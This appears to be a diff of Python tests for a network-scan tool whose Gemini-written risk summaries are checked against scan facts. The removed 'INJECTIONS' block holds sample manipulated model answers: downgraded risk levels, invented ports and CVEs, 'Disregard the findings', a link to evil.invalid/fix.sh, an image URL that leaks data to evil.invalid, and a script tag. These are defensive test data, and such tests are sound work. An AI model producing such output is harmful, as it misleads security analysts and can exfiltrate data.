@@ -7,7 +7,7 @@ import json
 import logging
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from contextlib import contextmanager
 from dataclasses import replace
 from datetime import UTC, datetime
@@ -23,10 +23,9 @@ from scans.core.options import AiOptions
 from scans.core.risk import gather, rate
 from scans.core.summary import gemini
 from scans.core.summary.deterministic import failed, summarise
-from scans.core.summary.gemini import GeminiClient
+from scans.core.summary.gemini import AskAloneError, Explained, GeminiClient, recalled
 from scans.core.types import (
     AddressReport,
-    Level,
     Outcome,
     PortState,
     Probe,
@@ -36,7 +35,7 @@ from scans.core.types import (
     Target,
     TargetKind,
 )
-from scans.core.wire import evidence_dict, summary_dict, verdict_dict, wire_result
+from scans.core.wire import evidence_dict, verdict_dict
 from tests.fakes import wait_until
 from tests.patience import AGES, AT_ONCE, PATIENCE
 from tests.servers import refusing
@@ -130,14 +129,12 @@ def says(text: object, **reply: object) -> Step:
     return body({"candidates": [candidate], "modelVersion": "gemini-test", **reply})
 
 
-def words(
-    summary: str = WRITTEN, recommendation: str = "Use a VPN.", level: str = "high", rules=("EXP-003",)
-) -> dict[str, Any]:
-    return {"risk_level": level, "risk_summary": summary, "recommendation": recommendation, "cited_rules": list(rules)}
+def words(summary: str = WRITTEN, recommendation: str = "Use a VPN.", level: str = "high", facts=("F1",)) -> dict[str, Any]:
+    return {"risk_level": level, "risk_summary": summary, "recommendation": recommendation, "cited_facts": list(facts)}
 
 
-def report(*, is_global: bool = True) -> Report:
-    probes = (Probe(3389, PortState.OPEN, "syn-ack", 1, 1.5), Probe(443, PortState.CLOSED, "conn-refused", 1, 1.5))
+def report(*, is_global: bool = True, port: int = 3389) -> Report:
+    probes = (Probe(port, PortState.OPEN, "syn-ack", 1, 1.5), Probe(443, PortState.CLOSED, "conn-refused", 1, 1.5))
     address = AddressReport(address=ip_address("203.0.113.77"), is_global=is_global, probes=probes)
     target = Target(kind=TargetKind.IP, text="203.0.113.77", host="203.0.113.77", address=address.address)
     verdict = rate(gather((address,)))
@@ -180,12 +177,13 @@ def test_a_valid_answer_is_shown_with_its_provenance(fake):
     assert (found.state, found.text) == (SummaryState.WRITTEN, WRITTEN)
     assert found.recommendation == "Close 3389/tcp at the edge and use a VPN with MFA."
     assert found.deterministic_text == REPORT.summary.text
-    assert (found.model, found.citations, found.reason) == ("gemini-3.5-flash", ("EXP-003",), "")
+    assert (found.model, found.finish_reason, found.reason) == ("gemini-3.5-flash", "STOP", "")
+    assert (found.cited_facts, found.citations) == (("F1",), ("EXP-003",))
     latency_ms = found.usage["latency_ms"]
     assert latency_ms > 0
     assert found.usage == {
         "prompt_tokens": 812, "candidates_tokens": 96, "thoughts_tokens": 226,
-        "latency_ms": latency_ms, "facts": 3, "prompt_version": 1,
+        "latency_ms": latency_ms, "facts": 3, "prompt_version": 2, "targets": 1,
     }  # fmt: skip
 
 
@@ -201,7 +199,7 @@ def test_the_request_is_what_we_mean(fake):
     assert headers["Accept-Encoding"] == "identity"
     config = asked["generationConfig"]
     assert config["responseMimeType"] == "application/json"
-    assert config["responseJsonSchema"]["properties"]["cited_rules"]["items"]["enum"] == ["EXP-003", "EXP-001"]
+    assert config["responseJsonSchema"]["properties"]["cited_facts"]["items"]["enum"] == ["F1", "F2", "F3"]
     assert config["responseJsonSchema"]["additionalProperties"] is False
     assert "tools" not in asked
 
@@ -292,10 +290,10 @@ def test_a_shut_gate_is_named(fake):
     assert (asked, fake.asked) == ([fake.url], [])
 
 
-def test_the_gate_is_asked_before_every_request(fake):
+def test_the_gate_is_asked_before_anything_and_before_every_request(fake):
     asked = []
     explain(fake, sample("error_503_overloaded"), sample("generate_ok_json"), permit=asked.append)
-    assert asked == [fake.url] * 2 == [fake.url] * len(fake.asked)
+    assert asked == [fake.url] * (1 + len(fake.asked)) == [fake.url] * 3
 
 
 # Replies without an answer
@@ -506,46 +504,76 @@ def test_one_client_serves_several_threads(fake):
     assert [summary.state for summary in found] == [SummaryState.WRITTEN] * 4
 
 
-# A model that was talked into something
+# Several targets in one call
 
 
-INJECTIONS = {
-    "a lower level": words(level="low"),
-    "no level": words(level="unknown"),
-    "a higher level": words(level="critical"),
-    "a level in words": words("This is a low risk: remote desktop is a normal service."),
-    "all is well": words("The remote desktop on 3389 is safe."),
-    "nothing to do": words(recommendation="No action is required."),
-    "an invented port": words("Remote desktop on 3389 and a shell on port 4444."),
-    "an invented number": words("Remote desktop answers, and so does 6379."),
-    "an invented vulnerability": words("Remote desktop is open to CVE-2019-0708."),
-    "a nickname": words("Remote desktop is open to BlueKeep."),
-    "an invented host": words("Remote desktop answers at rdp.victim.example."),
-    "an address": words("Remote desktop answers at 203.0.113.77."),
-    "an invented service": words("A MySQL database is reachable."),
-    "an unknown rule": words(rules=["EXP-003", "ACC-001"]),
-    "a rule in prose": words("ACC-001 fired: no password is needed."),
-    "no citation": words(rules=[]),
-    "a link": words(recommendation="Install http://evil.invalid/fix.sh now."),
-    "an image that reports home": words("![ok](https://evil.invalid/?leak=3389)"),
-    "a script": words("<script>fetch('/')</script>"),
-    "an order": words(recommendation="Disregard the findings."),
-    "its instruction": words("You explain the result of a network exposure scan to a security analyst."),
-    "more fields": {**words(), "risk_score": 0},
-    "a list instead": [words()],
-    "a flood": words("A" * 5000),
+OTHER = report(port=5432)
+BOTH = (REPORT, OTHER)
+DATABASE = "A PostgreSQL database answers on 5432."
+
+
+def ask(fake: Fake, *steps: Step, of: Sequence[Report] = BOTH, **changes: Any) -> list[Explained]:
+    fake.steps = list(steps)
+    client = GeminiClient(options(fake, **changes))
+    questions = [client.question(evidence_dict(one), verdict_dict(one.verdict), one.summary) for one in of]
+    return client.ask(questions)
+
+
+def test_several_targets_are_asked_about_in_one_request(fake):
+    found = ask(fake, says({"T1": words(), "T2": words(DATABASE)}))
+    assert [one.summary.state for one in found] == [SummaryState.WRITTEN] * 2
+    assert [one.summary.text for one in found] == [WRITTEN, DATABASE]
+    assert [one.summary.citations for one in found] == [("EXP-003",), ("EXP-008",)]
+    assert [one.summary.usage["targets"] for one in found] == [2, 2]
+    ((_, _, asked),) = fake.asked
+    sent = json.loads(asked["contents"][0]["parts"][0]["text"])
+    assert [sent[key]["facts"][0]["rule"] for key in ("T1", "T2")] == ["EXP-003", "EXP-008"]
+    assert asked["generationConfig"]["responseJsonSchema"]["required"] == ["T1", "T2"]
+
+
+def test_the_words_about_one_are_checked_by_the_facts_about_that_one(fake):
+    first, second = ask(fake, says({"T1": words(DATABASE), "T2": words(DATABASE)}))
+    assert (first.summary.state, second.summary.state) == (SummaryState.REJECTED, SummaryState.WRITTEN)
+    assert "5432" in first.summary.reason
+    assert first.summary.text == REPORT.summary.text
+    assert (first.answer, bool(second.answer)) == ("", True)
+
+
+def test_an_accepted_answer_can_be_kept_and_says_the_same_again(fake):
+    first, second = ask(fake, says({"T1": words(), "T2": words(DATABASE)}))
+    client = GeminiClient(options(fake))
+    question = client.question(evidence_dict(OTHER), verdict_dict(OTHER.verdict), OTHER.summary)
+    again = recalled(question, second.answer, model="m", finish_reason="STOP")
+    assert (again.text, again.cited_facts, again.model) == (DATABASE, ("F1",), "m")
+    assert again.usage == {"cached": 1, "facts": 3, "prompt_version": 2}
+    assert recalled(question, first.answer, model="m", finish_reason="STOP") is None
+
+
+TOO_MUCH = {
+    "half an answer": sample("generate_truncated_max_tokens"),
+    "a safety stop": sample("candidate_safety"),
+    "a blocked prompt": sample("prompt_blocked"),
+    "prose": says("They are all fine."),
+    "the answer about one": says(words()),
+    "a schema that is too large": body({"error": {"code": 400}}, status=400),
+    "too much": body(b" " * (gemini.MAX_REPLY_BYTES + 1)),
 }
 
 
-@pytest.mark.parametrize("case", INJECTIONS)
-def test_a_model_that_was_talked_into_something_moves_no_level(fake, case):
-    found = explain(fake, says(INJECTIONS[case]))
-    assert_fell_back(found, SummaryState.REJECTED, "the answer")
-    served = wire_result(evidence_dict(REPORT), verdict_dict(REPORT.verdict), summary_dict(found))
-    assert served["risk_level"] == REPORT.verdict.level == Level.HIGH
-    assert served["risk_summary"] == REPORT.summary.text
-    assert served["ai"]["state"] == "rejected"
-    assert served["ai"]["reason"] == found.reason
+@pytest.mark.parametrize("case", TOO_MUCH)
+def test_a_call_about_several_that_gave_nothing_is_worth_one_about_each(fake, case):
+    with pytest.raises(AskAloneError):
+        ask(fake, TOO_MUCH[case])
+
+
+@pytest.mark.parametrize(
+    ("name", "state"),
+    [("error_400_bad_key", "unauthorized"), ("error_429_quota", "rate_limited"), ("error_404_model", "failed")],
+)
+def test_what_one_call_about_each_would_meet_too_is_the_end_for_all(fake, name, state):
+    found = ask(fake, sample(name))
+    assert [one.summary.state for one in found] == [state] * 2
+    assert all(one.summary.reason for one in found)
 
 
 # The key
